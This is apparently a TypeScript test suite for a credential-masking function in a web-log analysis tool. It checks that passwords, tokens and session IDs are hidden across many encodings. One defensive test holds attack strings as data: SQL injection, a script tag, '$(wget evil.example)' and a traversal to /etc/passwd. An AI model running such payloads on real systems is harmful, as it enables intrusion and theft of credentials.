import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import fc from 'fast-check';
import { maskCredentials } from '../../lib/load/credentials/mask-credentials.js';
import { openTraffic } from '../../lib/load/open-traffic.js';
import { realData } from '../real-data.js';
import { matchedNames } from '../rules/matched-names.js';
import { written } from './written.js';

const credentials: readonly (readonly [string, string])[] = [
  ['/login?user=ann&password=hunter2&next=/home', '/login?user=ann&password=[masked]&next=/home'],
  ['/a?PassWd=x%27%20OR%201=1--&b=2', "/a?PassWd=[masked]'%20OR%201%3D1--&b=2"],
  ['/a?access_token=abc.def-g_h~1/+=&x=1', '/a?access_token=[masked]&x=1'],
  [
    '/a?api_key=1&apikey=2&x-api-key=3&key=4&user.pw=5',
    '/a?api_key=[masked]&apikey=[masked]&x-api-key=[masked]&key=[masked]&user.pw=[masked]',
  ],
  ['/a?user[password]=x;sid=9', '/a?user[password]=[masked];sid=[masked]'],
  ['/shop;jsessionid=0A1B2C?page=2', '/shop;jsessionid=[masked]?page=2'],
  [
    '/f.zip?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIA%2F20240425&X-Amz-Security-Token=FwoG&X-Amz-Signature=beef&X-Amz-Expires=60',
    '/f.zip?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=[masked]&X-Amz-Security-Token=[masked]&X-Amz-Signature=[masked]&X-Amz-Expires=60',
  ],
  [
    '/f?AWSAccessKeyId=AKIA&Signature=vj%3D&Expires=1',
    '/f?AWSAccessKeyId=[masked]&Signature=[masked]&Expires=1',
  ],
  ['/go?to=%2Fcb%3Ftoken%3Dabc%26page%3D2', '/go?to=%2Fcb%3Ftoken%3D[masked]%26page%3D2'],
  ['https://ann:hunter2@example.com/a', 'https://[masked]@example.com/a'],
  ['Authorization: Bearer ey.J0.x', 'Authorization: [masked]'],
  ['{"user": "ann", "password": "hunter2"}', '{"user": "ann", "password": "[masked]"}'],
  ['{"name":"Authorization","value":"Basic aGk6"}', '{"name":"Authorization","value":"[masked]"}'],
];

for (const [text, expected] of credentials)
  test(`credentials are masked in ${text}`, () => assert.equal(maskCredentials(text, true), expected));

/** What can be read in a text, also by who decodes it. */
function readable(text: string): string {
  let decoded = text;
  for (let round = 0; round < 4; round++)
    decoded = decoded.replace(/%([0-9a-f]{2})/gi, (_, hex: string) =>
      String.fromCharCode(Number.parseInt(hex, 16)),
    );
  return `${text} ${decoded}`;
}

/** Names of credentials as clients send them. */
const NAMES = [
  'password',
  'Password',
  'PASSWD',
  'pwd',
  'user[password]',
  'user%5Bpassword%5D',
  'user%255Bpassword%255D',
  'user[password_confirmation]',
  'pass%77ord',
  '%70assword',
  'pass%2577ord',
  'p%61ss',
  'PHPSESSID',
  'sessid',
  'JSESSIONID',
  'ASP.NET_SessionId',
  'connect.sid',
  'sid',
  'passcode',
  'userpass',
  'user_pass',
  'db_pass',
  'authkey',
  'auth_key',
  'auth',
  'api_key',
  'apiKey',
  'x-api-key',
  'key',
  'token',
  'csrf_token',
  '_csrf',
  'access_token',
  'refreshToken',
  'id_token',
  'client_secret',
  'clientSecret',
  'secret',
  'signature',
  'sig',
  'X-Amz-Signature',
  'X-Amz-Security-Token',
  'pin',
  'otp',
  'jwt',
  'SAMLResponse',
  'password1',
  'new_password',
  'pw',
  'login[pw]',
  'loginform-password',
  'j_password',
  'os_password',
  'log.passwd',
  'user.pass',
  'ctl00%24Password',
  'pass[]',
  'creds[0][password]',
  'Kennwort',
  'privatekey',
  'pass_word',
  'passphrase',
  'my-secret',
  'bearer',
  'authorization',
  'auth_token',
  'sessionId',
  'session',
  'cookie',
  'APIKEY',
  'subscription-key',
  'Ocp-Apim-Subscription-Key',
  'sas_sig',
];

/** Values that hold SECRET, with characters at which a value might seem to end. */
const VALUES = [
  'hunter2SECRET',
  'SECRET%21%40',
  'SECRET;SECRET',
  'SECRET#SECRET',
  'SECRET@SECRET',
  '"SECRET"',
  'SECRET"SECRET',
  "SECRET'SECRET",
  'SE%43RET',
  'a%26SECRET',
  'SECRET=SECRET',
  'SECRET+SECRET',
  'SECRET/SECRET?SECRET',
  "x'SECRET or SECRET",
  'SECRET%3BSECRET',
  'SECRET%2523SECRET',
  '%22SECRET%22',
  'SECRET,SECRET',
  'SECRET|SECRET',
  '(SECRET)',
  '{SECRET}',
  '<SECRET>',
  'SECRET:SECRET',
  'SECRET\\SECRET',
];

const leaks = (text: string, inUri: boolean) =>
  /SECRET|hunter2|SE%43/.test(readable(maskCredentials(text, inUri)));

test(`${NAMES.length} names with ${VALUES.length} values are masked in a request, an address, a damaged line and an address in a parameter`, () => {
  const shown = NAMES.flatMap((name) =>
    VALUES.flatMap((value) => {
      const inner = encodeURIComponent(`/cb?${name}=${value}&page=2`);
      const uris = [
        `/login?user=ann&${name}=${value}&next=/home`,
        `/login?${name}=${value}`,
        `https://h.example/a?${name}=${value}&b=1`,
        `/go?to=${inner}&z=1`,
        `/go?to=${encodeURIComponent(inner)}&z=1`,
      ];
      const line = `198.51.100.1 - - [01/Apr/2024] "POST /l?${name}=${value}&a=1 HTTP/1.1" 401 "x`;
      const quoted = /["']/.test(value);
      return [
        ...uris.filter((uri) => leaks(uri, true)),
        ...[line].filter((text) => !quoted && leaks(text, false)),
      ];
    }),
  );
  assert.deepEqual(shown, []);
});

const FIELDS = [
  'Authorization: Bearer SECRETabc.def',
  'Authorization: Token SECRET',
  'Authorization: Basic U0VDUkVU',
  'authorization=Token+SECRET',
  'Authorization: Digest username="ann", realm="x", response="SECRET"',
  'Authorization: AWS4-HMAC-SHA256 Credential=AKIASECRET/2024/us, SignedHeaders=host, Signature=SECRET',
  'Proxy-Authorization: Basic SECRET',
  'X-Api-Key: SECRET',
  'Cookie: a=b; session=SECRET; theme=dark',
  'Set-Cookie: id=SECRET; Path=/',
  '{"password":"SECRET"}',
  "{'password': 'SECRET'}",
  '{"user":{"name":"ann","password":"SE\\"CRET SECRET"}}',
  '{"password": "SECRET, SECRET"}',
  '{"token":"SECRET"}',
  '"{\\"password\\":\\"SECRET\\"}"',
  '{\\"password\\": \\"SECRET\\"}',
  'password => SECRET',
  'token: SECRET',
  '{"name":"Authorization","value":"Basic SECRET"}',
  '{"name":"cookie","value":"sid=SECRET; b=SECRET"}',
  'bearer SECRET1234567890abcdef',
  'Bearer%20SECRET1234567890abc',
];
for (const field of FIELDS)
  test(`nothing secret stays of ${field}`, () => assert.ok(!leaks(field, false), maskCredentials(field)));

const URIS = [
  '/a?data={"password":"SECRET"}',
  '/a?data=%7B%22password%22%3A%22SECRET%22%7D',
  '/a?data=%7B%22password%22%3A%22SECRET%20SECRET%22%7D&x=1',
  '/a?d=%257B%2522password%2522%253A%2522SECRET%2522%257D',
  'https://ann:SECRET@h.example/',
  'https://ann:SE@CRETSECRET@h.example/',
  'https%3A%2F%2Fann%3ASECRET%40h.example%2F',
  '/go?to=https%3A%2F%2Fann%3ASECRET%40h.example%2F',
  '/go?to=https%253A%252F%252Fann%253ASECRET%2540h',
  'ftp://u:SEC#RETSECRET@h/',
  '/#access_token=SECRET&x=1',
  '/cb#access_token=SECRET',
  '/cb#id_token=SECRET&state=x',
  '/cb%23access_token%3DSECRET',
  '/a;jsessionid=SECRET',
  '/a;jsessionid=SECRET?x=1',
  '/a;sid=SECRET/b',
  '/cb?code=SECRET4f9a8b7c6d5e4f3a2b1c&state=xyz',
  '/reset/eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJTRUNSRVQifQ.SECRETSECRET',
  '/a?x=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJTRUNSRVQifQ.SECRETSECRET',
  '/reset-password/SECRET4f9a8b7c6d5e4f3a2b1c',
  '/password/reset/SECRET4f9a8b7c6d5e4f3a2b1c',
  '/x?Authorization=Bearer%20SECRET',
  '/x?auth=Bearer SECRET',
  '/x?header=Authorization:%20Token%20SECRET',
  '/a?b=1&amp;password=SECRET',
  '/a?user.password=SECRET',
  '/a?password[]=SECRET&password[]=SECRET',
  '/a?\\x70assword=SECRET',
  '/a?password\\u003dSECRET',
  '/a?password%3DSECRET',
  '/a?password =SECRET',
  '/a?password%20=SECRET',
  '/a?+password=SECRET',
  '/a/password=SECRET',
  '/a?x[api][key]=SECRET',
  '/a?passwd%3aSECRET',
  '//ann:SECRET@h/x',
  '/a?tok%65n=SECRET',
  '/a?cookie=PHPSESSID%3DSECRET%3B%20a%3Db',
  '/api/token/SECRET4f9a8b7c6d5e4f3a2b1c/x',
  '/a?пароль=SECRET',
  '/a?%D0%BF%D0%B0%D1%80%D0%BE%D0%BB%D1%8C=SECRET',
  '/a?password%00=SECRET',
  '/a?pass%C2%ADword=SECRET',
  '/a?ｐassword=SECRET',
  '/a?password;=SECRET',
  '/a?password:SECRET',
  '/a?"password"="SECRET"',
  '/a?%22password%22=SECRET',
  '/login&password=SECRET',
  'password=SECRET',
  '/a?user[pass][word]=SECRET',
  '/a?private_token=SECRET',
];
for (const uri of URIS)
  test(`nothing secret stays of ${uri}, alone and in a line of a log`, () => {
    assert.ok(!leaks(uri, true), maskCredentials(uri, true));
    const line = `198.51.100.1 - - [01/Apr/2024:00:00:00 +0000] "GET ${uri} HTTP/1.1" 2x0 "`;
    assert.ok(!leaks(line, false), maskCredentials(line));
  });

test('what is no credential stays as it is', () => {
  for (const text of [
    '/monkey?author=ann&page=2&assignee=bo&keyword=shoes&passenger=1',
    '/search?q=%27%20OR%201%3D1',
    '/tokens/secret/password',
    'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0',
    '',
  ])
    assert.equal(maskCredentials(text, true), text);
});

test('masking any text twice changes nothing, and ends', () => {
  const part = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.constantFrom(...NAMES, '=', '?', '&', '%3D', '"', ':', ' ', '//', '@', ';'),
  );
  fc.assert(
    fc.property(fc.array(part, { maxLength: 12 }), fc.boolean(), (parts, inUri) => {
      const once = maskCredentials(parts.join(''), inUri);
      assert.equal(maskCredentials(once, inUri), once);
    }),
    { seed: 29, numRuns: 2000 },
  );
});

test('a text of a hundred thousand characters is masked without taking the time of a hundred thousand texts', () => {
  for (const piece of ['password', 'a=', '?token', '%2525', '//a:', '"k":"', '/token/x'])
    assert.ok(maskCredentials(piece.repeat(20_000), true).length > 0);
});

test('in 11,472 lines of public logs only signatures and sessions of other sites in referers are masked', {
  skip: realData.skip,
}, () => {
  const lines = ['apache__raw.log', 'nginx__raw.log', 'amazon_elb__raw.log'].flatMap((name) =>
    readFileSync(realData.file(`aws-samples/${name}`), 'utf8').split('\n'),
  );
  const changed = lines.filter((line) => maskCredentials(line) !== line);
  for (const line of changed)
    assert.equal(maskCredentials(line), line.replace(/([?&](?:sig2|sid|state|sign)=)[\w-]+/g, '$1[masked]'));
  console.log(`${changed.length} of ${lines.length} lines have one`);
});

test('an attack in the value of a credential is still matched by rules, and shows no word of it', async () => {
  const values = [
    "x' or 'a'='a",
    "hunter2' union select user,password from users--",
    '<script>alert(1)</script>',
    '$(wget evil.example)',
    '../../etc/passwd',
  ];
  const uris = values.map((value) => `/login?user=ann&pwd=${encodeURIComponent(value)}`);
  const names = await matchedNames(uris.map((uri) => ({ uri })));
  assert.deepEqual(
    names.map((own) => own.length > 0),
    values.map(() => true),
  );
  assert.ok(uris.every((uri) => !/hunter2|evil/.test(maskCredentials(uri, true))));
});

test('rejects and errors of a log with credentials show none', async () => {
  const good = '198.51.100.1 - - [01/Apr/2024:00:00:00 +0000] "GET /a HTTP/1.1" 200 10 "-" "M"';
  const bad = [
    '198.51.100.1 - - [01/Apr/2024:00:00:00 +0000] "GET /a?user%5Bpassword%5D=hunter2SECRET HTTP/1.1" 2x0 10 "-" "M"',
    `198.51.100.1 - - [99/Apr/2024:00:00:00 +0000] "GET /a?${'b=1&'.repeat(30)}token=hunter2SECRET HTTP/1.1" 200 10 "-" "M"`,
    'https://ann:hunter2SECRET@h.example/',
    '{"password":"hunter2SECRET"}',
  ];
  const log = written(
    'rejects with credentials.log',
    `${[good, good, good, good, ...bad, good].join('\n')}\n`,
  );
  const traffic = await openTraffic(log);
  assert.equal(traffic.rejected, bad.length);
  const rows = await traffic.engine.query<{ value: string }>('select value from rejects');
  assert.equal(rows.length, bad.length);
  assert.ok(!/SECRET|hunter2/.test(JSON.stringify(rows)), JSON.stringify(rows));
  const table = written(
    'cells.csv',
    'bytes_in,bytes_out,creation_time,end_time,src_ip,dst_port\n1,token=hunter2SECRET,x,y,z,1\n',
  );
  await assert.rejects(
    openTraffic(table),
    (error: Error) => !/SECRET/.test(error.message) && /reject|line 2/.test(error.message),
  );
  const unknown = written('unknown.txt', 'password=hunter2SECRET\npassword=hunter2SECRET\n');
  await assert.rejects(openTraffic(unknown), (error: Error) => !/SECRET/.test(error.message));
});
